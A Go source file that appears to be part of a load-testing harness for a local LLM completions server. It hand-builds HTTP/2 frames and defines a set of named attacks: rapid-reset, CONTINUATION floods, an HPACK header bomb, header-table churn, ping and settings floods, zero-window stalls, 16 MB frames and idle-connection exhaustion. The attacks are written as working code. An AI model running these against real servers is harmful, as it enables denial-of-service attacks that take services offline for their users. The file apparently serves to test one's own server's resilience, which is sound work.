//go:build linux

package main

import (
	"bufio"
	"bytes"
	"encoding/binary"
	"errors"
	"io"
	"net"
	"slices"
	"strings"
	"time"
)

// Types and flags of HTTP/2 frames (RFC 9113).
const (
	frameData, frameHeaders, frameReset, frameSettings, framePing, frameGoAway, frameContinuation byte = 0, 1, 3, 4, 6, 7, 9

	endStream, endHeaders byte = 1, 4
)

// Settings of HTTP/2.
const (
	headerTableSize, initialWindow uint16 = 1, 4

	noTable, hugeTable uint32 = 0, 1<<32 - 1
)

func frame(kind, flags byte, stream uint32, payload []byte) []byte {
	b := binary.BigEndian.AppendUint32(nil, uint32(len(payload))<<8|uint32(kind))
	return append(binary.BigEndian.AppendUint32(append(b, flags), stream), payload...)
}

func setting(id uint16, value uint32) []byte {
	return binary.BigEndian.AppendUint32(binary.BigEndian.AppendUint16(nil, id), value)
}

// preface is what a client begins with. Without a table of headers, statuses can be read
// without one (see statusOf).
func preface(settings ...[]byte) []byte {
	all := slices.Concat(append([][]byte{setting(headerTableSize, noTable)}, settings...)...)
	return append([]byte("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"), frame(frameSettings, 0, 0, all)...)
}

// literal is a header that is not added to the table (RFC 7541, section 6.2.2).
func literal(name, value string) []byte {
	return append(text7([]byte{0}, name), text7(nil, value)...)
}

// text7 appends a text with its length.
func text7(b []byte, text string) []byte {
	n := len(text)
	if n < 127 {
		return append(append(b, byte(n)), text...)
	}
	b = append(b, 127)
	for n -= 127; n >= 128; n >>= 7 {
		b = append(b, byte(n)|128)
	}
	return append(append(b, byte(n)), text...)
}

// headers are those of a POST request with the attacker's key.
func headers(path string) []byte {
	return slices.Concat(literal(":method", "POST"), literal(":path", path), literal(":scheme", "https"), literal(":authority", "127.0.0.1"),
		literal("authorization", "Bearer "+evilKey), literal("content-type", "application/json"))
}

// ask2 is the frames of a request.
func ask2(stream uint32, body any) []byte {
	return append(frame(frameHeaders, endHeaders, stream, headers(completions)), frame(frameData, endStream, stream, encode(body))...)
}

// digits are the Huffman codes of 0 to 9 with their lengths (RFC 7541, appendix B).
var digits = []struct{ code, bits uint }{{0, 5}, {1, 5}, {2, 5}, {0x19, 6}, {0x1a, 6}, {0x1b, 6}, {0x1c, 6}, {0x1d, 6}, {0x1e, 6}, {0x1f, 6}}

// statusOf reads the status at the beginning of a response's headers, or returns 0.
func statusOf(b []byte) (status int) {
	for len(b) > 0 && b[0]&0xe0 == 0x20 { // a change of the table's size
		b = b[1:]
	}
	if len(b) > 0 && b[0] >= 0x88 && b[0] <= 0x8e {
		return []int{200, 204, 206, 304, 400, 404, 500}[b[0]-0x88]
	}
	if len(b) < 3 || b[0]&0x0f != 8 {
		return 0
	}
	var bits, have uint
	for b = b[2:min(len(b), 2+int(b[1]&0x7f))]; len(b) > 0 || have >= 5; {
		for ; have < 8 && len(b) > 0; b = b[1:] {
			bits, have = bits<<8|uint(b[0]), have+8
		}
		i := slices.IndexFunc(digits, func(d struct{ code, bits uint }) bool {
			return have >= d.bits && bits>>(have-d.bits)&(1<<d.bits-1) == d.code
		})
		if i < 0 { // the padding
			return status
		}
		status, have = 10*status+i, have-digits[i].bits
	}
	return status
}

var errGoAway = errors.New("GOAWAY")

// responses reads frames until n responses have come or the connection ends, and counts them.
func (w *worker) responses(c io.Reader, n int) error {
	r := bufio.NewReader(c)
	for n > 0 {
		var head [9]byte
		if _, err := io.ReadFull(r, head[:]); err != nil {
			return err
		}
		size := int(binary.BigEndian.Uint32(head[:4]) >> 8)
		if head[3] == frameHeaders && size < 1<<20 {
			b := make([]byte, size)
			if _, err := io.ReadFull(r, b); err != nil {
				return err
			}
			w.note(statusOf(b), nil)
			n--
			continue
		}
		if _, err := r.Discard(size); err != nil {
			return err
		}
		switch head[3] {
		case frameReset:
			w.note(0, []byte("reset"))
			n--
		case frameGoAway:
			w.note(0, []byte("GOAWAY"))
			return errGoAway
		}
	}
	return nil
}

// http2 sends bytes over a connection and then begins again with more of them, while another
// goroutine reads the responses, n of them.
func http2(begin []byte, more func(stream uint32) []byte, n int) act {
	return func(w *worker) {
		raw := w.dial()
		if raw == nil {
			return
		}
		defer raw.Close()
		c := w.secure(raw, "h2")
		if c == nil {
			return
		}
		w.begin(c, begin)
		read := make(chan struct{})
		go func() { defer close(read); w.responses(c, n) }()
		for stream := uint32(1); more != nil && w.ctx.Err() == nil && stream < 1<<30; stream += 2 {
			if _, err := c.Write(more(stream)); err != nil {
				break
			}
		}
		<-read
	}
}

// mute2 sends bytes and then neither reads nor disconnects; more is sent as long as the
// connection takes it.
func mute2(begin []byte, more []byte) act {
	return func(w *worker) {
		raw := w.dial()
		if raw == nil {
			return
		}
		defer raw.Close()
		raw.(*attackConn).Conn.(*net.TCPConn).SetReadBuffer(2048)
		c := w.secure(raw, "h2")
		if c == nil {
			return
		}
		w.begin(c, begin)
		for more != nil && w.ctx.Err() == nil {
			if _, err := c.Write(more); err != nil {
				w.sleep(refused)
				return
			}
		}
		w.sleep(time.Hour)
	}
}

// http2Attacks are attacks by frames of HTTP/2.
func http2Attacks() []attack {
	const n = 1 << 30 // until the connection ends
	row := func(name, sends string, workers int, like ordinary, do act) attack {
		return attack{name: "h2-" + name, sends: sends, workers: workers, pause: refused, tls: true, like: like, expect: []int{0, 200, 400, 413, 429, 431}, bare: true, do: func(info) act { return do }}
	}
	each := func(frames []byte) func(uint32) []byte { return func(uint32) []byte { return frames } }
	many := func(count int, f func(i int) []byte) (all []byte) {
		for i := range count {
			all = append(all, f(i)...)
		}
		return all
	}
	odd := func(i int) uint32 { return uint32(2*i + 1) }
	long := obj{"prompt": "a", "max_tokens": 1 << 20, "stream": true, "ignore_eos": true}
	bomb := slices.Concat([]byte{0x40}, text7(nil, "a"), text7(nil, strings.Repeat("b", 4000)), bytes.Repeat([]byte{0xbe}, 12000))
	return []attack{
		{name: "h2-preface", sends: "HTTP/2 without TLS", workers: 64, pause: refused, like: few, expect: []int{505}, must: 505, do: func(info) act { return ask(same(preface())) }},
		{name: "h2-upgrade", sends: "Upgrade: h2c", workers: 64, pause: refused, like: few, expect: []int{200, 429}, must: 200, do: func(info) act {
			return ask(same(bytes.Replace(raw("GET /v1/models HTTP/1.1", nil, "Upgrade: h2c", "HTTP2-Settings: AAMAAABkAAQAoAAAAAIAAAAA"), []byte("Connection: close"), []byte("Connection: close, Upgrade, HTTP2-Settings"), 1)))
		}},
		row("streams", "64 requests at once on each connection", 16, crowd, http2(append(preface(), many(64, func(i int) []byte { return ask2(odd(i), small) })...), nil, 64)),
		row("rapid-reset", "requests that are reset at once", 16, crowd, http2(preface(), func(stream uint32) []byte {
			return append(ask2(stream, small), frame(frameReset, 0, stream, []byte{0, 0, 0, 8})...)
		}, n)),
		row("continuation", "headers that never end", 16, few, http2(append(preface(), frame(frameHeaders, 0, 1, headers(completions))...), each(frame(frameContinuation, 0, 1, literal("a", fill("b", 16000)))), n)),
		row("header-bomb", "48 MB of headers in 16 KB, by the table of headers", 16, few, http2(preface(), func(stream uint32) []byte {
			return frame(frameHeaders, endHeaders|endStream, stream, append(headers(completions), bomb...))
		}, n)),
		row("header-table", "the largest table of headers, and changes of its size", 16, few, http2(preface(setting(headerTableSize, hugeTable)), each(many(100, func(i int) []byte { return frame(frameSettings, 0, 0, setting(headerTableSize, uint32(i%2)*hugeTable)) })), n)),
		row("pings", "pings", 16, few, http2(preface(), each(bytes.Repeat(frame(framePing, 0, 0, make([]byte, 8)), 1000)), n)),
		row("pings-unread", "pings whose answers nobody reads", 100, one, mute2(preface(), bytes.Repeat(frame(framePing, 0, 0, make([]byte, 8)), 1000))),
		row("settings", "settings", 16, few, http2(preface(), each(bytes.Repeat(frame(frameSettings, 0, 0, nil), 1000)), n)),
		row("empty-data", "bodies of empty frames", 16, few, http2(append(preface(), frame(frameHeaders, endHeaders, 1, headers(completions))...), each(bytes.Repeat(frame(frameData, 0, 1, nil), 1000)), n)),
		row("no-body", "64 requests without a body on each of 50 connections", 50, manyAsk, mute2(append(preface(), many(64, func(i int) []byte { return frame(frameHeaders, endHeaders, odd(i), headers(completions)) })...), nil)),
		row("window", "64 long streams on each connection, with a window of nothing", 16, crowd, mute2(append(preface(setting(initialWindow, 0)), many(64, func(i int) []byte { return ask2(odd(i), long) })...), nil)),
		row("large-frame", "a frame of 16 MB", 16, few, http2(append(preface(), frame(frameData, 0, 1, make([]byte, 1<<24-1))...), nil, n)),
		row("idle", "500 connections that say nothing after the preface", 500, one, mute2(preface(), nil)),
	}
}
